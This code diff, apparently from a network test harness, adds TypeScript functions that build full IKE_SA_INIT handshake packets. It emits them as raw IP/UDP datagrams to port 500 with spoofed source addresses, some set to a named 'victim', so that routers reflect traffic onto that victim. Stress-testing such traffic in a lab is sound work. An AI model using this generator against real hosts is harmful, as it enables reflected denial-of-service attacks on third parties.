@@ -62,6 +62,74 @@ export function malformedPool(seed: number, rows = 4000): string {
   }).join('\n')
 }
 
+const IKE_PORT = 500
+
+/** A whole IKE_SA_INIT request, RFC 7296 §1.2, that any router here would answer. */
+function saInit(bytes: (n: number) => Buffer): Buffer {
+  const payload = (next: number, body: Buffer): Buffer => {
+    const head = Buffer.from([next, 0, 0, 0])
+    head.writeUInt16BE(4 + body.length, 2)
+    return Buffer.concat([head, body])
+  }
+  // AES-GCM-256, HMAC-SHA-384, X25519.
+  const transforms = Buffer.from('0300000c01000014800e01000300000802000006000000080400001f', 'hex')
+  const proposal = Buffer.concat([Buffer.from([0, 0, 0, 8 + transforms.length, 1, 1, 0, 3]), transforms])
+  const notify = (type: number): Buffer =>
+    Buffer.concat([Buffer.from([0, 0, type >> 8, type & 255]), bytes(20)])
+  const chain = Buffer.concat([
+    payload(34, proposal),
+    payload(40, Buffer.concat([Buffer.from([0, 31, 0, 0]), bytes(32)])),
+    payload(41, bytes(32)),
+    payload(41, notify(16388)),
+    payload(0, notify(16389)),
+  ])
+  const header = Buffer.concat([
+    bytes(8),
+    Buffer.alloc(8),
+    Buffer.from([33, 0x20, 34, 0x08]),
+    Buffer.alloc(8),
+  ])
+  header.writeUInt32BE(header.length + chain.length, 24)
+  return Buffer.concat([header, chain])
+}
+
+/** Pure: IKE_SA_INIT from addresses that are not the sender's, some of them `victim`'s. */
+export function spoofedPool(
+  seed: number,
+  to: { readonly target: string; readonly victim: string },
+  rows = 4000,
+): string {
+  const roll = dice(seed)
+  const bytes = (n: number): Buffer => Buffer.from(Array.from({ length: n }, () => roll() & 255))
+  const octets = (address: string): number[] => address.split('.').map(Number)
+  return Array.from({ length: rows }, (_, n) => {
+    const source = n % 8 === 0 ? octets(to.victim) : [203, 0, 113, 3 + (roll() % 250)]
+    const message = saInit(bytes)
+    const udp = Buffer.alloc(8) // no checksum: RFC 768
+    udp.writeUInt16BE(IKE_PORT, 0)
+    udp.writeUInt16BE(IKE_PORT, 2)
+    udp.writeUInt16BE(udp.length + message.length, 4)
+    const length = 20 + udp.length + message.length
+    const ip = Buffer.from([
+      0x45,
+      0,
+      length >> 8,
+      length & 255,
+      0,
+      0,
+      0,
+      0,
+      64,
+      17,
+      0,
+      0,
+      ...source,
+      ...octets(to.target),
+    ])
+    return `ip ${Buffer.concat([ip, udp, message]).toString('hex')}`
+  }).join('\n')
+}
+
 /** Answers how many packets of each kind were sent. */
 export async function flood(
   from: Namespace,
